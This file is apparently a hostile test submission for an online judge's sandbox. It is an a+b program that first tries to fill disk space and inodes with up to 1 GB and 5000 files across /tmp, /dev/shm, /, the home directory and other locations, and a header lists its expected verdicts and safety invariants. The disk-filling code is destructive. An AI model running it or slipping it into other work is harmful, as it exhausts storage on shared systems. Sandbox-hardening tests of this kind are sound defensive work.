# id=H51 | tries=fills disk and inodes wherever it may write: up to 1 GB and 5000 files | verdicts=AC,RE,TLE | invariants=judge_alive,no_file,machine_ok | dangerous=leaves up to 1 GB and 5000 files
import os, signal

a, b = map(int, input().split())
signal.signal(signal.SIGXFSZ, signal.SIG_IGN)
chunk, n = b"x" * (1 << 20), 0
for folder in (".", "/tmp", "/var/tmp", "/dev/shm", "/run", "/dev", "/", os.path.expanduser("~")):
    try:
        for k in range(5000):
            with open(f"{folder}/hostile_full_{k}", "wb", buffering=0) as f:
                while n < 1000:
                    n += f.write(chunk) >> 20
    except OSError:
        pass
print(a + b)
